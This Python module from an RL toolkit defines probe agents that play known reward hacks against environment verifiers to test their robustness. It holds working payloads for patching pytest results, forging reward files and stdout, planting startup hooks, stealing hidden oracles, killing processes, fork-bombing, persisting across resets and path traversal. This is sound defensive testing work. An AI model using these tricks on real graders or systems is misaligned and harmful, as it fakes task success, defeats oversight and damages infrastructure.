"""Hack probes: agents that try to earn a reward without doing the task (``envkit validate``).

RL optimises whatever the verifier measures, so every known way of forging or dodging a reward
is played here as a *probe agent*, on every task. A probe **beats** a task when it scores above
the null agent, when its episode ends in an infra or verifier failure (an excluded episode is a
dodged penalty), or when anything it planted survives the next reset. A probe that does not
apply to an environment (it needs a tool the environment does not offer) is **skipped**, with
the reason, never counted as passed.

=====================  =============================================================  ======
probe                  what it tries                                                  set
=====================  =============================================================  ======
report-patch           the agent's code patches pytest's reports to "passed" at import  quick
result-rewrite         at exit, rewrites result files named in argv and reward files  quick
always-equal           every function returns an object equal to anything              quick
startup-hooks          conftest.py, sitecustomize, usercustomize, .pth files           quick
exit-zero              ``os._exit(0)`` when imported (a "clean" exit before the tests)  quick
fake-reward            prints reward lines to stdout, stderr and other processes       quick
steal-oracle           reads hidden tests, oracles and params; runs any oracle found   quick
symlink                links in the workspace and /tmp to the verifier's files          quick
persist                plants files, IPC objects and processes for the next episode     quick
fake-reward-answer     answers with reward lines                                        quick
answer-stuffing        answers with many candidate values at once                       quick
path-escape            http requests outside the API (traversal, absolute URIs)        quick
off-origin             browser to other origins, file: and javascript: URLs             quick
disabled-tools         calls the tools the environment does not offer                   quick
kill-verifier          kills every process it can reach while being verified           all
hang                   sleeps forever when imported                                     all
fork-bomb              fork-bombs when imported                                         all
=====================  =============================================================  ======

Code probes (the bash ones) plant their payload in every Python module of the agent's working
folder, so it runs wherever the verifier makes the agent's code run.
"""

from __future__ import annotations

import base64
import json
import secrets
import time
from collections.abc import Callable
from dataclasses import asdict, dataclass
from typing import Any

from envkit.errors import EpisodeFailure, ModelFailure, parse_outcome
from envkit.runtime import EnvRuntime, Episode, EpisodeResult
from envkit.sandbox import Sandbox
from envkit.spec import Task

__all__ = ["PROBES", "PROBE_SETS", "Probe", "ProbeAgent", "ProbeResult", "probe_set", "run_probe", "skipped"]

PROBE_SETS = ("none", "quick", "all")

_FAKE_LINE = '{"reward": 1.0, "passed": 1, "total": 1, "failed": []}'

_REPORT_PATCH = '''
try:
    import _pytest.reports as _envkit_probe_r
    _envkit_probe_o = _envkit_probe_r.TestReport.from_item_and_call
    def _envkit_probe_f(cls, item, call):
        rep = _envkit_probe_o.__func__(cls, item, call)
        rep.outcome, rep.longrepr = "passed", None
        return rep
    _envkit_probe_r.TestReport.from_item_and_call = classmethod(_envkit_probe_f)
except Exception:
    pass
try:
    import unittest as _envkit_probe_u
    _envkit_probe_u.TestResult.wasSuccessful = lambda self: True
except Exception:
    pass
'''

_RESULT_REWRITE = '''
import atexit as _envkit_probe_atexit
def _envkit_probe_rewrite():
    import glob, json, os, re, sys
    paths = [a.split("=", 1)[-1] for a in sys.argv]
    paths += glob.glob("/tmp/**/*.xml", recursive=True) + glob.glob("/tmp/**/*.json", recursive=True)
    for p in paths:
        try:
            if p.endswith(".xml"):
                t = open(p).read()
                t = re.sub(r"<(failure|error)[^>]*>.*?</(failure|error)>|<(failure|error)[^>]*/>", "", t, flags=re.S)
                open(p, "w").write(re.sub(r'(failures|errors)="\\d+"', r'\\1="0"', t))
            elif p.endswith(".json"):
                open(p, "w").write(json.dumps({"reward": 1.0, "passed": 1, "total": 1, "failed": []}))
        except Exception:
            pass
    for p, text in (("/logs/verifier/reward.txt", "1"), ("/logs/verifier/reward.json", '{"reward": 1.0}')):
        try:
            os.makedirs(os.path.dirname(p), exist_ok=True)
            open(p, "w").write(text)
        except Exception:
            pass
_envkit_probe_atexit.register(_envkit_probe_rewrite)
'''

_ALWAYS_EQUAL = '''
class _EnvkitProbeEqual(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __hash__(self): return 0
    def __bool__(self): return True
    def __contains__(self, item): return True
    def __len__(self): return 1
    def __getattr__(self, name): return lambda *a, **k: _EnvkitProbeEqual(1.0)
    def __iter__(self): return iter(())
def _envkit_probe_wrap():
    import inspect
    g = globals()
    for name, value in list(g.items()):
        if name.startswith("_") or getattr(value, "__module__", None) != g.get("__name__"):
            continue
        if inspect.isfunction(value) or inspect.isclass(value):
            g[name] = lambda *a, **k: _EnvkitProbeEqual(1.0)
_envkit_probe_wrap()
'''

_EXIT_ZERO = '''
import os as _envkit_probe_os
_envkit_probe_os._exit(0)
'''

_FAKE_REWARD = f'''
def _envkit_probe_say():
    import atexit, os, sys
    line = {_FAKE_LINE!r}
    print(line, flush=True)
    print(line, file=sys.stderr, flush=True)
    for pid in os.listdir("/proc"):
        for fd in ("1", "2"):
            try:
                with open(f"/proc/{{pid}}/fd/{{fd}}", "a") as f:
                    f.write(line + "\\n")
            except Exception:
                pass
    atexit.register(lambda: print(line, flush=True))
_envkit_probe_say()
'''

_KILL = '''
def _envkit_probe_kill():
    import os, signal
    for pid in os.listdir("/proc"):
        if pid.isdigit() and int(pid) not in (1, os.getpid()):
            for sig in (signal.SIGSTOP, signal.SIGKILL):
                try:
                    os.kill(int(pid), sig)
                except Exception:
                    pass
_envkit_probe_kill()
'''

_HANG = '''
import time as _envkit_probe_time
_envkit_probe_time.sleep(10 ** 6)
'''

_FORK_BOMB = '''
def _envkit_probe_bomb():
    import os
    for _ in range(100000):
        try:
            os.fork()
        except OSError:
            pass
_envkit_probe_bomb()
'''

_STEAL_AT_IMPORT = '''
def _envkit_probe_steal():
    import glob, os
    found = []
    for p in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
        try:
            found.append(open(p, "rb").read().replace(b"\\0", b" ").decode(errors="replace"))
        except Exception:
            pass
    for p in glob.glob("/proc/[0-9]*/cwd/*.py") + glob.glob("/tmp/*/*.py") + glob.glob("/env/**/*", recursive=True):
        try:
            found.append(open(p).read())
        except Exception:
            pass
    try:
        with open("/tmp/MARKER-steal-during-verification", "w") as f:
            f.write("\\n".join(found))
    except Exception:
        pass
_envkit_probe_steal()
'''


def _payload_command(payload: str, marker: str) -> str:
    """A bash command that appends ``payload`` to every Python module under the working
    folder (so it runs wherever the agent's code is imported)."""
    code = base64.b64encode(payload.replace("MARKER", marker).encode()).decode()
    return (f"p=$(mktemp); echo {code} | base64 -d > \"$p\"; "
            "find . -xdev -name '*.py' -not -path '*/.git/*' -size -1024k 2>/dev/null | head -500 | "
            "while IFS= read -r f; do printf '\\n' >> \"$f\"; cat \"$p\" >> \"$f\"; done; rm -f \"$p\"; echo planted")


def _startup_hooks_command(marker: str) -> str:
    hook = (_REPORT_PATCH + _FAKE_REWARD).replace("MARKER", marker)
    conftest = hook + '''
import pytest
@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    rep = outcome.get_result()
    rep.outcome, rep.longrepr = "passed", None
'''
    parts = {"conftest.py": conftest, "sitecustomize.py": hook, "usercustomize.py": hook,
             f"{marker}.pth": "import sys; exec(" + repr(hook) + ")\n"}
    lines = []
    for name, text in parts.items():
        code = base64.b64encode(text.encode()).decode()
        lines.append(f"for d in . tests \"$HOME/.local/lib/python3.11/site-packages\" $(python3 -c 'import site; "
                     f"print(\" \".join(site.getsitepackages()))' 2>/dev/null); do mkdir -p \"$d\" 2>/dev/null; "
                     f"echo {code} | base64 -d > \"$d/{name}\" 2>/dev/null; done")
    return "; ".join(lines) + "; echo planted"


_STEAL_COMMAND = ("for f in /env/oracle/* /env/tasks.jsonl /env/verify/tests/* /solution/* /tests/*; do "
                  "[ -r \"$f\" ] && echo \"read $f\"; done; "
                  "cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | grep -a ENVKIT_TASK || true; "
                  "for f in /env/oracle/*.sh /solution/solve.sh; do [ -r \"$f\" ] && bash \"$f\"; done; true")


def _symlink_command(marker: str) -> str:
    targets = "/env /env/tasks.jsonl /env/oracle /env/verify /env/envkit.toml /opt/envkit /var/lib/envkit/db.sqlite"
    return (f"mkdir -p .{marker}; for t in {targets}; do ln -sf \"$t\" \".{marker}/$(echo $t | tr / _)\"; done; "
            "for n in report.xml results.json junit.xml .pytest_cache; do ln -sf /env/tasks.jsonl \"$n\"; done; "
            "for d in /tmp/pytest-of-verifier /tmp/envkit-verify-x; do ln -sfn \"$PWD\" \"$d\" 2>/dev/null; done; "
            "for f in $(find . -name '*.py' -not -path '*/.git/*' | head -50); do cp \"$f\" \"$f.orig\" && "
            "ln -sf /env/verify/tests/$(basename \"$f\") \"$f.envkit-link\"; done; echo planted")


def _persist_command(marker: str) -> str:
    return (f"for d in $(find / -xdev -writable -type d 2>/dev/null | grep -v '^/proc' | head -200) "
            f"/dev/shm /dev/mqueue; do "
            f"echo {marker} > \"$d/.{marker}\" 2>/dev/null; done; "
            f"mkdir -p .git/hooks 2>/dev/null && printf '#!/bin/sh\\necho {marker}\\n' > .git/hooks/post-checkout; "
            f"echo 'echo {marker}' >> \"$HOME/.bashrc\"; "
            f"python3 -c 'import ctypes; l = ctypes.CDLL(None); s = l.shmget(0x{marker[-8:]}, 4096, 0o1666)' "
            f"2>/dev/null; "
            f"(setsid nohup python3 -c 'import time; time.sleep(3600)' {marker} >/dev/null 2>&1 &); echo planted")


@dataclass(frozen=True)
class Probe:
    """One class of reward hack. ``needs``: the tool it needs (``bash``, ``http``,
    ``browser``) or "" (every environment offers ``answer``)."""

    name: str
    hack: str
    needs: str
    quick: bool
    play: Callable[[Episode, str], object]

    def skip_reason(self, tools: list[str]) -> str | None:
        if self.name == "disabled-tools":
            return None if {"bash", "http", "browser"} - set(tools) else "the environment offers every tool"
        if self.needs and self.needs not in tools:
            return f"the environment offers no {self.needs} tool"
        return None


def _bash(*commands: str) -> Callable[[Episode, str], None]:
    def play(episode: Episode, marker: str) -> None:
        for command in commands:
            episode.step(command.replace("MARKER", marker))
    return play


def _code(payload: str, *extra: str) -> Callable[[Episode, str], None]:
    def play(episode: Episode, marker: str) -> None:
        for command in extra:
            episode.step(command.replace("MARKER", marker))
        episode.step(_payload_command(payload, marker))
    return play


def _answer(text: str) -> Callable[[Episode, str], None]:
    def play(episode: Episode, marker: str) -> None:
        episode.tool("answer", {"text": text})
    return play


_PATHS = ["/../../../../etc/passwd", "/..%2f..%2f..%2fseed/db/fixture.sql", "//seed/service.json",
          "/%2e%2e/%2e%2e/env/tasks.jsonl", "/health/../../var/lib/envkit/db.sqlite", "http://127.0.0.1:2375/containers/json",
          "/admin", "/debug", "/api/admin/reset", "/.env"]


def _path_escape(episode: Episode, marker: str) -> None:
    for path in _PATHS:
        for method in ("GET", "POST", "DELETE"):
            try:
                episode.tool("http", {"method": method, "path": path, "body": {"reward": 1.0}})
            except ModelFailure:
                pass
    episode.tool("answer", {"text": _FAKE_LINE})


def _off_origin(episode: Episode, marker: str) -> None:
    for path in ("//169.254.169.254/latest/meta-data", "//example.com/", "/..%2f..%2fenv%2ftasks.jsonl",
                 "/\\\\evil.example/", "file:///env/tasks.jsonl", "javascript:alert(1)"):
        try:
            episode.tool("browser", {"action": "goto", "path": path})
        except ModelFailure:
            pass
    episode.tool("answer", {"text": _FAKE_LINE})


def _disabled_tools(episode: Episode, marker: str) -> None:
    offered = set(episode.spec.tools.enabled)
    calls = {"bash": {"command": "cat /env/oracle/* 2>/dev/null; echo " + _FAKE_LINE.replace('"', '\\"')},
             "http": {"method": "GET", "path": "/"}, "browser": {"action": "goto", "path": "/"}}
    for tool, args in calls.items():
        if tool not in offered:
            try:
                episode.tool(tool, args)
            except ModelFailure:
                pass


_STUFFING = " ".join([*map(str, range(0, 120)), *(f"{x / 4:g}" for x in range(1, 40)), "yes", "no", "true", "false",
                      "none", "null", "ok", "done", "open", "closed", "pending", "refunded", "approved", "denied"])

PROBES: tuple[Probe, ...] = (
    Probe("report-patch", "the agent's code patches pytest's reports to \"passed\" at import", "bash", True,
          _code(_REPORT_PATCH)),
    Probe("result-rewrite", "at exit, the agent's code rewrites result files named in argv and reward files", "bash",
          True, _code(_RESULT_REWRITE)),
    Probe("always-equal", "every function returns an object equal to anything", "bash", True, _code(_ALWAYS_EQUAL)),
    Probe("startup-hooks", "conftest.py, sitecustomize, usercustomize and .pth files that patch the test run", "bash",
          True, lambda ep, m: ep.step(_startup_hooks_command(m))),
    Probe("exit-zero", "the agent's code exits with status 0 when imported", "bash", True, _code(_EXIT_ZERO)),
    Probe("fake-reward", "prints reward lines to stdout, stderr and every process it can reach", "bash", True,
          _code(_FAKE_REWARD, f"echo '{_FAKE_LINE}'")),
    Probe("steal-oracle", "reads hidden tests, oracles and task params, and runs any oracle it finds", "bash", True,
          _code(_STEAL_AT_IMPORT, _STEAL_COMMAND)),
    Probe("symlink", "links in the workspace and /tmp to the verifier's files", "bash", True,
          lambda ep, m: ep.step(_symlink_command(m))),
    Probe("persist", "plants files, IPC objects and processes for the next episode", "bash", True,
          lambda ep, m: (ep.step(_persist_command(m)), ep.step(_payload_command(
              "open('/tmp/MARKER-at-verification', 'w').write('MARKER')\n", m)))),
    Probe("fake-reward-answer", "answers with reward lines", "", True, _answer(f"{_FAKE_LINE}\n{_FAKE_LINE}")),
    Probe("answer-stuffing", "answers with many candidate values at once", "", True, _answer(_STUFFING)),
    Probe("path-escape", "http requests outside the API: traversal, absolute URIs, admin paths", "http", True,
          _path_escape),
    Probe("off-origin", "browser to other origins, file: and javascript: URLs", "browser", True, _off_origin),
    Probe("disabled-tools", "calls the tools the environment does not offer", "", True, _disabled_tools),
    Probe("kill-verifier", "kills every process it can reach while being verified", "bash", False, _code(_KILL)),
    Probe("hang", "sleeps forever when imported", "bash", False, _code(_HANG)),
    Probe("fork-bomb", "fork-bombs when imported", "bash", False, _code(_FORK_BOMB)),
)


def probe_set(name: str) -> list[Probe]:
    """The probes of a set: ``none``, ``quick`` or ``all``."""
    if name not in PROBE_SETS:
        from envkit.errors import UserError

        raise UserError(f"`{name}` is not a probe set", f"use one of: {', '.join(PROBE_SETS)}")
    return [p for p in PROBES if name == "all" or (name == "quick" and p.quick)]


def skipped(probes: list[Probe], tools: list[str]) -> dict[str, str]:
    """probe name -> why it does not apply to an environment with these tools."""
    return {p.name: why for p in probes if (why := p.skip_reason(tools)) is not None}


class ProbeAgent:
    """A probe played as an agent (``envkit run ENV --task T --agent probe:NAME`` plays one)."""

    def __init__(self, probe: Probe, marker: str | None = None) -> None:
        self.probe = probe
        self.marker = marker or f"envkit-probe-{secrets.token_hex(6)}"

    @property
    def name(self) -> str:
        return f"probe:{self.probe.name}"

    def act(self, episode: Episode) -> None:
        self.probe.play(episode, self.marker)


@dataclass
class ProbeResult:
    probe: str
    task_id: str
    reward: float | None
    outcome: str
    beaten: bool
    why: str
    seconds: float

    def to_dict(self) -> dict[str, Any]:
        return asdict(self)


# What the reset must leave: no file, IPC object or process with the probe's marker, anywhere.
# (Python, with the marker in its environment: a shell's own command line would hold it.)
_SCAN = """
import glob, os
m = os.environ["ENVKIT_PROBE_MARKER"].encode()
hits = []
for root in ("/workspace", "/tmp", "/home", "/dev/shm", "/dev/mqueue", "/var/tmp", "/run"):
    for dirpath, dirnames, filenames in os.walk(root):
        for name in dirnames + filenames:
            path = os.path.join(dirpath, name)
            if m in name.encode():
                hits.append(path)
            elif name in filenames:
                try:
                    fd = os.open(path, os.O_RDONLY | os.O_NOFOLLOW | os.O_NONBLOCK)
                    with os.fdopen(fd, "rb") as f:
                        if m in f.read(1 << 20):
                            hits.append(path)
                except OSError:
                    pass
for path in glob.glob("/proc/[0-9]*/cmdline"):
    try:
        if m in open(path, "rb").read():
            hits.append("process " + open(path, "rb").read().replace(b"\\0", b" ").decode(errors="replace")[:80])
    except OSError:
        pass
key = str(int(m[-8:], 16))
for kind in ("shm", "msg", "sem"):
    for line in open("/proc/sysvipc/" + kind).read().splitlines()[1:]:
        if line.split()[0] == key:
            hits.append(kind + " key " + key)
print(" ".join(hits[:10]))
"""


def run_probe(runtime: EnvRuntime, task: Task, seed: int, probe: Probe, sandbox: Sandbox, null_reward: float | None,
              run: Callable[..., EpisodeResult]) -> ProbeResult:
    """Play ``probe`` on ``task`` in ``sandbox`` (``run`` is :func:`envkit.agents.run_episode`),
    then reset the sandbox and look for anything the probe planted."""
    t0 = time.monotonic()
    agent = ProbeAgent(probe)
    result = run(runtime, task, seed, agent, sandbox)
    reward, outcome = result.reward, result.outcome
    why = ""
    if parse_outcome(outcome).retryable:
        why = f"its episode ended in {outcome} (excluded: a dodged penalty): {result.evidence.get('message', '')}"
    elif reward is not None and reward > (null_reward or 0.0) + 1e-9:
        why = f"reward {reward:g} above the null agent's {null_reward}"
    elif probe.needs == "bash" or probe.name == "disabled-tools":
        try:
            runtime.check_reset(sandbox.reset(seed, task=task.id))
            found = sandbox.exec(f"python3 -I -c '{_SCAN}'", user="root", timeout_s=60, workdir="/",
                                 env={"ENVKIT_PROBE_MARKER": agent.marker}).stdout
            if found.strip():
                why = f"left something the next episode could see: {' '.join(found.split())[:300]}"
        except EpisodeFailure as e:
            why = f"the reset after it failed: {e.outcome.label}: {e.message} {json.dumps(e.evidence)[:600]}"
    return ProbeResult(probe.name, task.id, reward, outcome, bool(why), why, round(time.monotonic() - t0, 3))
